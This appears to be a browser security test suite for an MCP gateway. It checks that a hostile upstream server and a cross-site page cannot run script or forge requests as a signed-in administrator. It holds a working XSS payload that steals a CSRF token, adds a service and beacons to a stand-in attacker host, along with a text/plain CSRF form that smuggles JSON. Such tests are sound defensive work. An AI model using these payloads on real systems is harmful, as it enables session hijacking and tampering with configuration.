// What a page of another site and a hostile server may not do together to the browser of a signed-in
// administrator.
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { describeInBrowser, launchChromium } from '../runtimes/chromium.ts'
import { type TestGateway, openInWorkerd, openOnSocket } from '../runtimes/runtimes.ts'
import { person } from '../runtimes/login.ts'

interface Site {
  readonly origin: string
  /** Paths that were asked for, oldest first. */
  readonly heard: string[]
  close(): void
}

const openSite = (answer: (request: IncomingMessage, response: ServerResponse) => void): Promise<Site> =>
  new Promise((resolve) => {
    const heard: string[] = []
    const server: Server = createServer((request, response) => {
      heard.push(request.url ?? '')
      answer(request, response)
    })
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as AddressInfo
      resolve({ origin: `http://127.0.0.1:${port}`, heard, close: () => void server.close() })
    })
  })

/**
 * What the hostile server answers: it adds a service in the name of whoever is signed in, and tells its
 * author that it ran.
 */
const payload = (author: string): string => `<!doctype html><script>
new Image().src = '${author}/ran';
(async () => {
  const home = await (await fetch('/', { headers: { accept: 'text/html' } })).text();
  const csrf = /name="csrf" value="([^"]+)"/.exec(home)[1];
  const service = { url: '${author}/added', auth_required: false };
  await fetch('/api/services', { method: 'POST', headers: { 'content-type': 'application/json', 'x-csrf-token': csrf }, body: JSON.stringify({ id: 'taken', service }) });
})();
</script>`

/** Each is JSON to one reader and a page to another, or plainly a page. */
const disguises = ['application/json; a, text/html', 'text/html', 'image/svg+xml']

/** A form whose one field, name and value, is JSON. */
const formOf = (target: string): string => `<!doctype html><title>Evil</title>
<form method="post" enctype="text/plain" action="${target}">
<input name='{"jsonrpc":"2.0","id":1,"method":"tools/list","params":{"a":"' value='"}}'></form>
<iframe src="${target}/x"></iframe><object data="${target}/x"></object><embed src="${target}/x">
<script src="${target}/x"></script><script>onload = () => setTimeout(() => document.forms[0].submit(), 300)</script>`

describeInBrowser('a page of another site and a hostile server', () => {
  let browser: Browser
  let server: Site
  let evil: Site
  let disguise = ''
  let status = 200
  beforeAll(async () => {
    browser = await launchChromium()
    server = await openSite((_request, response) => {
      response.writeHead(status, { 'content-type': disguise }).end(payload(evil.origin))
    })
    evil = await openSite((request, response) => {
      const target = new URL(request.url ?? '', 'http://x').searchParams.get('target')
      response.writeHead(200, { 'content-type': 'text/html' }).end(target === null ? '' : formOf(target))
    })
  })
  afterAll(async () => {
    await browser.close()
    for (const site of [server, evil]) site.close()
  })

  describe.each([
    ['on Node', openOnSocket],
    ['on Workers', openInWorkerd],
  ] as const)('%s', (_, open) => {
    let house: TestGateway
    let page: Page
    beforeAll(async () => {
      const services = { free: { name: 'Free', url: `${server.origin}/mcp`, auth_required: false } }
      const config = {
        admins: ['local:ana'],
        cors: { allow_origins: ['*', evil.origin] },
        mcp_services: services,
      }
      house = await open({ upstream: `${server.origin}/mcp`, config })
      page = await (await browser.newContext()).newPage()
      page.setDefaultTimeout(60_000)
      await page.goto(`${house.origin}/login`)
      await page.getByLabel('Username').fill(person.username)
      await page.getByLabel('Password').fill(person.password)
      await page.getByRole('button', { name: 'Sign in' }).click()
      await page.getByRole('button', { name: 'Sign out' }).waitFor()
    })
    afterAll(async () => {
      await page.context().close()
      await house.close()
    })
    beforeEach(() => {
      for (const site of [server, evil]) site.heard.length = 0
    })
    const services = async (): Promise<string[]> => {
      const cookie = (await page.context().cookies(house.origin))
        .map(({ name, value }) => `${name}=${value}`)
        .join('; ')
      const answer = await house.fetch(`${house.origin}/api/services`, { headers: { cookie } })
      return ((await answer.json()) as { services: { id: string }[] }).services.map(({ id }) => id)
    }

    test.each(disguises)('never a script of the server in the origin of the gateway: %s', async (type) => {
      disguise = type
      await page.goto(`${evil.origin}/?target=${house.origin}/free/mcp`)
      await page.waitForURL(`${house.origin}/**`)
      await page.waitForLoadState('load')
      expect(server.heard.filter((path) => path === '/mcp')).toEqual([])
      // A page that the operator listed may call, and its answer may be opened as a page of its own.
      for (status of [200, 404]) {
        await page.goto(evil.origin)
        await page.evaluate(async (url) => {
          const answer = await fetch(url, {
            method: 'POST',
            headers: { 'content-type': 'application/json' },
            body: '{"jsonrpc":"2.0","id":1,"method":"tools/list"}',
          })
          document.body.append(answer.headers.get('content-type') ?? '')
        }, `${house.origin}/free/mcp`)
        for (const path of ['/free/mcp', '/free/mcp/x']) {
          // As a browser asks that says nothing of HTML.
          await page.route('**/free/**', (route) =>
            route.continue({ headers: { ...route.request().headers(), accept: '*/*' } }),
          )
          await page.goto(`${house.origin}${path}`).catch(() => undefined)
          await page.unrouteAll()
        }
      }
      status = 200
      expect(evil.heard.filter((path) => path === '/ran' || path === '/added')).toEqual([])
      expect(await services()).toEqual(['echo', 'free'])
    })
  })
})
